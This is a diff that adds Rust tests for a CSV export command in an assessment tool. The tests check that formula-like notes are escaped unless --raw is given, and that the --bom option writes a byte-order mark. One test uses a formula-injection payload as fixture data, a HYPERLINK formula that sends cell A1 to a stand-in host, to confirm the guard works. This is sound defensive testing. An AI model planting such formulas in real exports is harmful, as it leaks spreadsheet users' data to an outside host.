@@ -300,6 +300,102 @@ fn export_to_a_file_is_private_and_matches_stdout() {
     }
 }
 
+/// An assessment whose first standard's note at its first stage is `note`,
+/// with that standard's id and stage.
+fn with_first_note(home: &Path, note: &str) -> (PathBuf, String, String) {
+    let path = create(home, "senior-leadership", "Sam Formula");
+    let fw = framework("senior-leadership");
+    let (_, standard) = fw.standards().next().expect("a standard");
+    let stage = fw.stages_of(standard).next().expect("a stage");
+    edit(&path, |a| {
+        let mark = a.current_mut().mark_mut(&standard.id, &stage.id);
+        mark.rating = Rating::Level(2);
+        mark.note = note.to_owned();
+    });
+    (path, standard.id.clone(), stage.name.clone())
+}
+
+/// The `note` field of the row for `standard` at `stage`.
+fn note_of(rows: &[Vec<String>], standard: &str, stage: &str) -> String {
+    let col = |name: &str| rows[0].iter().position(|h| h == name).unwrap();
+    rows[1..]
+        .iter()
+        .find(|r| r[col("standard_id")] == standard && r[col("stage")] == stage)
+        .expect("the row")[col("note")]
+    .clone()
+}
+
+#[test]
+fn export_guards_a_formula_unless_raw() {
+    let home = tempfile::tempdir().unwrap();
+    let formula = "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click\")";
+    let (path, id, stage) = with_first_note(home.path(), formula);
+    let p = path.to_str().unwrap();
+
+    let o = reflect_in(home.path(), &["export", p, "--format", "csv"]);
+    assert_ok(&o);
+    let rows = parse_csv(&stdout(&o));
+    assert_eq!(note_of(&rows, &id, &stage), format!("'{formula}"));
+
+    // The same guard in a file written with --output.
+    let out = home.path().join("out.csv");
+    let o = reflect_in(
+        home.path(),
+        &[
+            "export",
+            p,
+            "--format",
+            "csv",
+            "--output",
+            out.to_str().unwrap(),
+        ],
+    );
+    assert_ok(&o);
+    let rows = parse_csv(&std::fs::read_to_string(&out).unwrap());
+    assert_eq!(note_of(&rows, &id, &stage), format!("'{formula}"));
+
+    let o = reflect_in(home.path(), &["export", p, "--format", "csv", "--raw"]);
+    assert_ok(&o);
+    let rows = parse_csv(&stdout(&o));
+    assert_eq!(note_of(&rows, &id, &stage), formula);
+}
+
+#[test]
+fn export_bom_starts_with_a_byte_order_mark() {
+    let home = tempfile::tempdir().unwrap();
+    let (path, id, stage) = with_first_note(home.path(), "Siân's note, with an accent");
+    let p = path.to_str().unwrap();
+    let plain = reflect_in(home.path(), &["export", p, "--format", "csv"]);
+    assert_ok(&plain);
+    assert!(!plain.stdout.starts_with(b"\xEF\xBB\xBF"));
+    let o = reflect_in(home.path(), &["export", p, "--format", "csv", "--bom"]);
+    assert_ok(&o);
+    assert_eq!(o.stdout[..3], *b"\xEF\xBB\xBF");
+    assert_eq!(o.stdout[3..], plain.stdout[..]);
+    let rows = parse_csv(&stdout(&o));
+    assert_eq!(
+        rows[0][0], "framework",
+        "the mark is not part of the first cell"
+    );
+    assert_eq!(note_of(&rows, &id, &stage), "Siân's note, with an accent");
+
+    let out = home.path().join("bom.csv");
+    let o = reflect_in(
+        home.path(),
+        &[
+            "export",
+            p,
+            "--format",
+            "csv",
+            "--bom",
+            "--output",
+            out.to_str().unwrap(),
+        ],
+    );
+    assert_ok(&o);
+    assert!(std::fs::read(&out).unwrap().starts_with(b"\xEF\xBB\xBF"));
+}
+
 #[test]
 fn export_refuses_to_overwrite_the_assessment() {
     let home = tempfile::tempdir().unwrap();
